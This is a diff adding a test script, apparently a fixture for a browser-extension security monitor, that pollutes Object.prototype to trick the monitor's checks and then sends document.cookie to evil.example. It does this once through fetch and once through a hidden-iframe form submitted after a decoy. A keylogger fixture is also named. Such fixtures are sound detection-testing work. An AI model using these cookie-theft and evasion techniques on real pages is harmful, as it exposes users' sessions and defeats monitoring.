@@ -828,6 +828,49 @@ export const MAIN_WORLD_SCRIPTS = {
   window.__poisonedTook = original !== null;
 })();`,
 
+  /**
+   * Works through fields Saq's own objects leave out, which the page's Object.prototype answers: \`extension\`
+   * and \`evaled\` put there (every stack frame Saq read that left them out was another extension's), then
+   * \`once\` while a frame's realm is adopted (its submit listener, added then, would hear one submit only:
+   * a decoy's, before the cookie goes by a second form).
+   */
+  'poisoned-fields': `(() => {
+  const shared = Object.prototype;
+  shared.extension = true;
+  shared.evaled = true;
+  try {
+    fetch('https://evil.example/poisoned-extension?c=' + encodeURIComponent(document.cookie), { mode: 'no-cors' }).catch(() => {});
+  } finally {
+    delete shared.extension;
+    delete shared.evaled;
+  }
+  const sink = document.createElement('iframe');
+  sink.name = 'poisoned-sink';
+  sink.hidden = true;
+  document.body.append(sink);
+  const frame = document.createElement('iframe');
+  frame.hidden = true;
+  let doc;
+  shared.once = true;
+  try {
+    document.body.append(frame);
+    doc = frame.contentDocument;
+  } finally {
+    delete shared.once;
+  }
+  // Forms from markup: an action written by the parser is judged at the submission only, by that listener.
+  const form = (action) => {
+    const holder = doc.createElement('div');
+    holder.innerHTML = '<form method="post" target="poisoned-sink" action="' + action + '"><input name="note"></form>';
+    doc.body.append(holder);
+    const f = holder.firstChild;
+    f.elements.note.value = document.cookie;
+    return f;
+  };
+  form('/kz/search').requestSubmit();
+  form('https://evil.example/poisoned-once').requestSubmit();
+})();`,
+
   /** A window-wide key listener added by a bare call, as top-level code writes it (no receiver: the window). */
   'bare-keylogger': `(() => {
   const keys = [];
